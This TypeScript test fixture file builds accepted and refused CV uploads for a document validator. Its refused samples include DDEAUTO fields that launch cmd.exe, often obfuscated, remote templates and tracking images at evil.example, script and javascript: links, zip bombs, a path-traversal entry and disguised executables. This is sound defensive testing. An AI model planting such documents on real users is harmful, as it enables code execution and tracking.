/** Files for tests: real ones of each kind, and ones that only look real. */
import type { CvFault } from '../../site/page/form-services.ts';
import {
  attachment,
  body,
  doc,
  docx,
  docxAt,
  docxWith,
  europass,
  field,
  objectStream,
  packageRelations,
  packed,
  pdf,
  pdfObjects,
  makePdf,
  relation,
  relations,
  remote,
  root,
  types,
  xml,
  zip,
} from './cv-files.ts';
import { refusedPdfs } from './cv-refused-pdfs.ts';

export const acceptedFiles: [string, string, Buffer][] = [
  ['a PDF', 'cv.pdf', pdf],
  ['a DOCX', 'CV Anna.DOCX', docx],
  [
    'a PDF with compressed bytes that look like a name',
    'cv.pdf',
    makePdf(`${pdfObjects} ${packed} ${packed.replace('4 0', '5 0')}`),
  ],
  [
    'a PDF with objects in a stream, and a link to a page about scripts',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream('<</S/URI/URI(https://example.com/JavaScript/JS)>>')}`),
  ],
  [
    'a DOCX with links, a picture and a template of its own machine',
    'cv.docx',
    zip([
      types,
      root,
      body,
      { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') },
      relations(
        relation('hyperlink', 'https://example.com/anna'),
        relation('image', 'media/image1.png', ''),
        relation('attachedTemplate', 'file:///C:\\Users\\anna\\CV.dotx'),
      ),
    ]),
  ],
  ['a PDF behind a line break', 'cv.pdf', Buffer.concat([Buffer.from('\r\n'), pdf])],
  [
    'a PDF with an XML attachment, as Europass writes it',
    'cv.pdf',
    makePdf(`${pdfObjects} ${attachment('cv.xml', europass)}`),
  ],
  [
    'a PDF with links, and a page to open at',
    'cv.pdf',
    makePdf(
      `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[2 0 R/Fit]>>>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0/A<</S/URI/URI(file:///C:/x)>>>>endobj`,
    ),
  ],
  [
    'a PDF with a length in an object of its own',
    'cv.pdf',
    makePdf(`${pdfObjects} 3 0 obj<</Length 4 0 R>>stream\nBT (some streams) ET\nendstream endobj 4 0 obj 20 endobj`),
  ],
  ['a DOCX of Word for the web', 'cv.docx', docxAt('word/document2.xml')],
  [
    'a DOCX whose main part has an absolute name',
    'cv.docx',
    zip([types, packageRelations('/word/document.xml'), body]),
  ],
  [
    'a DOCX with links of every kind',
    'cv.docx',
    zip([
      types,
      root,
      body,
      relations(
        ...['file:///C:\\Users\\anna\\letter.docx', 'skype:anna?call', 'letter.pdf', '#top', 'sms:+39055'].map(
          (target) => relation('hyperlink', target),
        ),
      ),
    ]),
  ],
  [
    'a DOCX with a table of contents, the date, and a link to a page about DDE in a comment',
    'cv.docx',
    docxWith(
      '<!-- DDEAUTO --><w:fldChar w:fldCharType="begin"/><w:instrText> TOC \\o "1-3" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr=" DATE "/><w:t>LINK, DDEAUTO</w:t>',
    ),
  ],
];

/** With the key of the error message; `cvKind` when it is left out. */
export const refusedFiles: [what: string, name: string, bytes: Buffer, fault?: CvFault][] = [
  ...refusedPdfs,
  ['a program', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])],
  ['a web page', 'cv.pdf', Buffer.from(`<!doctype html><script>alert(1)</script>${' '.repeat(200)}%PDF-1.7 %%EOF`)],
  ['a PDF named as something else', 'cv.html', pdf],
  ['a PDF with two names', 'cv.pdf.exe', pdf],
  ['a PDF that is called DOCX', 'cv.docx', pdf],
  ['a DOCX that is called PDF', 'cv.pdf', docx],
  ['a PDF that is also an archive', 'cv.pdf', Buffer.concat([pdf, docx, Buffer.from('%%EOF')])],
  ['an archive behind a PDF header', 'cv.docx', Buffer.concat([pdf, docx])],
  ['an archive with something behind it', 'cv.docx', Buffer.concat([docx, Buffer.from('<script>alert(1)</script>')])],
  [
    'a DOCX with a template from elsewhere',
    'cv.docx',
    zip([types, root, body, relations(relation('attachedTemplate', remote))]),
    'cvExternal',
  ],
  [
    'a DOCX with a template from a share',
    'cv.docx',
    zip([types, root, body, relations(relation('attachedTemplate', 'file://evil.example/share/x.dotm'))]),
    'cvExternal',
  ],
  [
    'a DOCX with a template in other words',
    'cv.docx',
    zip([types, root, body, relations(relation('attachedTemplate', remote, ' TargetMode="Extern&#97;l"'))]),
    'cvExternal',
  ],
  [
    'a DOCX with a picture from elsewhere',
    'cv.docx',
    zip([types, root, body, relations(relation('image', 'https://evil.example/seen.png'))]),
    'cvExternal',
  ],
  [
    'a DOCX with a link that runs',
    'cv.docx',
    zip([types, root, body, relations(relation('hyperlink', 'javascript:alert(1)'))]),
    'cvExternal',
  ],
  [
    'a DOCX with an embedded object',
    'cv.docx',
    zip([types, root, body, { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('x') }]),
    'cvActive',
  ],
  [
    'a DOCX with an object under another name',
    'cv.docx',
    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
    'cvFiles',
  ],
  [
    'a DOCX with a program under another name',
    'cv.docx',
    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.from('MZ\u0090 This program') }]),
    'cvFiles',
  ],
  [
    'a DOCX with a field that starts a program',
    'cv.docx',
    zip([
      types,
      root,
      {
        name: 'word/document.xml',
        content: xml('<w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText>AUTO c:\\cmd.exe</w:instrText>'),
      },
    ]),
    'cvActive',
  ],
  [
    'a DOCX with an entity',
    'cv.docx',
    zip([
      types,
      root,
      { name: 'word/document.xml', content: Buffer.from('<!DOCTYPE x [<!ENTITY a "b">]><w:document>&a;</w:document>') },
    ]),
  ],
  [
    'a bomb of 100 MB whose directory says 5 KB',
    'cv.docx',
    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.alloc(100 * 1024 * 1024), claims: 5000 }]),
  ],
  ['a part that is not what its checksum says', 'cv.docx', zip([types, root, { ...body, checksum: 1 }])],
  ['a plain archive', 'cv.docx', zip([{ name: 'cv.txt', content: Buffer.alloc(300, 'x') }])],
  [
    'a DOCX with macros',
    'cv.docx',
    zip([types, root, body, { name: 'word/vbaProject.bin', content: Buffer.from('macro') }]),
    'cvActive',
  ],
  ['an encrypted DOCX', 'cv.docx', zip([types, root, { ...body, encrypted: true }]), 'cvLocked'],
  [
    'a bomb of zeros',
    'cv.docx',
    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.alloc(40 * 1024 * 1024) }]),
  ],
  [
    'a bomb by its own claim',
    'cv.docx',
    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.from('x'), claims: 4_000_000_000 }]),
  ],
  [
    'an archive with a way out',
    'cv.docx',
    zip([types, root, body, { name: '../../etc/cron.d/x', content: Buffer.from('x') }]),
  ],
  ['an archive with one name twice', 'cv.docx', zip([types, root, body, body])],
  [
    'too many entries',
    'cv.docx',
    zip([
      types,
      root,
      body,
      ...Array.from({ length: 600 }, (_, index) => ({ name: `word/${index}.xml`, content: Buffer.from('x') })),
    ]),
  ],
  [
    'a DOCX with a field in CDATA',
    'cv.docx',
    field('<w:instrText><![CDATA[DDEAUTO c:\\cmd.exe]]></w:instrText>'),
    'cvActive',
  ],
  [
    'a DOCX with a field with a comment in it',
    'cv.docx',
    field('<w:instrText>DDE<!-- x -->AUTO c:\\cmd.exe</w:instrText>'),
    'cvActive',
  ],
  [
    'a DOCX with a field written with entities',
    'cv.docx',
    field('<w:instrText>&#68;D&#x45;AUTO c:\\cmd.exe</w:instrText>'),
    'cvActive',
  ],
  [
    'a DOCX with a field with a processing instruction in it',
    'cv.docx',
    field('<w:instrText>DDE<?x?>AUTO c:\\cmd.exe</w:instrText>'),
    'cvActive',
  ],
  [
    'a DOCX with a field under another prefix',
    'cv.docx',
    docxWith(
      '<x:instrText xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DDEAUTO c:\\cmd.exe</x:instrText>',
    ),
    'cvActive',
  ],
  ['a DOCX with a simple field', 'cv.docx', docxWith('<w:fldSimple w:instr=" LINK Word.Document.8 x "/>'), 'cvActive'],
  [
    'a DOCX with a field in a main part that is not called XML',
    'cv.docx',
    docxAt('word/document.dat', xml('<w:instrText>DDEAUTO x</w:instrText>')),
    'cvActive',
  ],
  ['a DOCX whose main part is not well-formed', 'cv.docx', docxWith('<w:p>')],
  ['a DOCX in another encoding', 'cv.docx', docxAt('word/document.xml', Buffer.from('\ufeff<w/>', 'utf16le'))],
  ['a DOCX without a main part', 'cv.docx', zip([types, body])],
  ['a DOC', 'cv.doc', doc],
  ['a DOC that is named DOCX', 'cv.docx', doc],
  ['nothing', 'cv.pdf', Buffer.from('%PDF-1.7 %%EOF')],
];
